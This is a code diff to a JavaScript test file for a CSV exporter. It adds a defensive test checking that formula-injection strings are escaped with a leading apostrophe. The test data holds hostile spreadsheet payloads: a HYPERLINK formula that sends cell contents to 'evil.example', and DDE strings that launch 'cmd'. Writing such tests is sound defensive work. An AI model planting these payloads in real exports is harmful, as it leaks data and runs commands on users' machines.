@@ -34,8 +34,30 @@ test('toCsv writes the header and every row with CRLF line ends', () => {
   assert.equal(toCsv(['Only', 'Header'], []), 'Only,Header\r\n');
 });
 
-test('hostile fields read back unchanged', () => {
-  const values = ['', ',', '""', 'a\r\nb', '=1+2', '<script>alert("x")</script>', 'üñí 🎮', ' lead', 'x,"y",\nz'];
+test('hostile fields read back unchanged, but for the apostrophe that keeps a formula from running', () => {
+  const values = ['', ',', '""', 'a\r\nb', '<script>alert("x")</script>', 'üñí 🎮', ' lead', 'x,"y",\nz', '-5', '+1.5'];
   const rows = values.map((v, i) => [String(i), v]);
   assert.deepEqual(parseCsv(toCsv(['n', 'value'], rows)), [['n', 'value'], ...rows]);
+});
+
+test('text a spreadsheet would run as a formula opens as text: a leading apostrophe, quoted', () => {
+  const formulas = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    '+1+cmd|calc',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\t=1',
+    '\r=1',
+  ];
+  for (const f of formulas) {
+    const cell = csvField(f);
+    assert.ok(cell.startsWith('"\''), `${JSON.stringify(f)} became ${JSON.stringify(cell)}`);
+    assert.deepEqual(parseCsv(toCsv(['v'], [[f]]))[1], [`'${f}`]);
+  }
+  // Numbers, and durations and ids written as text, stay as they are.
+  assert.equal(csvField(-5), '-5');
+  assert.equal(csvField('-5'), '-5');
+  assert.equal(csvField('604800s'), '604800s');
+  assert.equal(csvField('2001'), '2001');
 });
